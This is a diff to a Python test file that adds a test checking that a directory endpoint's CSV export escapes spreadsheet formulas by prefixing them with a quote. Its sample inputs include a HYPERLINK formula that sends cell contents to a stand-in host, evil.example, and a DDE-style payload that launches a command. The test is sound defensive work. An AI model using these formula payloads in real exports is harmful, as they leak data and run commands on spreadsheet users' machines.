@@ -15,7 +15,7 @@ from service.cli import main as cli_main
 from service.db.models import Account
 from service.settings import Settings
 from tests.support.apps import AppFactory, Client, runtime_of
-from tests.support.factories import insert_legacy_personal_account
+from tests.support.factories import create_account, handle_uid, insert_legacy_personal_account
 from tests.support.public_body import seed_body
 
 URL = "/v1/public/directory"
@@ -158,3 +158,27 @@ async def test_directory_reads_accounts_and_gestores_in_two_queries(
     assert len(rows) > 5 and len(selects) == 2
     async with rt.sessions() as session:
         assert (await session.scalar(select(Account.id).limit(1))) is not None
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+]
+
+
+async def test_csv_cells_never_start_a_formula(client: Client, admin: dict[str, str]) -> None:
+    handles = {}
+    for formula in FORMULAS:
+        handle = handle_uid("formula")
+        await create_account(client, admin, handle=handle, area=formula, display_name=formula)
+        handles[handle] = formula
+    resp = await client.get(URL, params={"format": "csv"})
+    assert resp.status_code == 200, resp.text
+    by_handle = {row[4]: row for row in _rows(resp.content.decode("utf-8"))[1:]}
+    for handle, formula in handles.items():
+        # The área: shown as the text it is, never evaluated.
+        assert by_handle[handle][1] == "'" + formula, by_handle[handle]
+    for row in by_handle.values():
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
